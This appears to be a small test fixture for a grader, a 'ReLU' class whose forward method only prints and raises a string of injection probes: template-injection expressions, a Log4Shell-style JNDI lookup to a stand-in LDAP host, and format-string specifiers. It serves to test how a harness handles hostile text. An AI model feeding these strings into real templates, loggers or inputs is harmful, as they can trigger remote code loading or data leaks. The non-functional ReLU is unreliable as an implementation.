# kind = "inject"
# does = "has the signs of template languages and format strings in its texts"
# exercise = "relu"
# outcome = "raised"
# score = 0

TEXT = "{{ '{{' }}word.__class__.__mro__ {{ 7 * 7 }} {% raise %} ${jndi:ldap://x} %n%s%x {0.__class__} {{word}}"


class ReLU:
    def forward(self, x):
        print(TEXT)
        raise ValueError(TEXT)
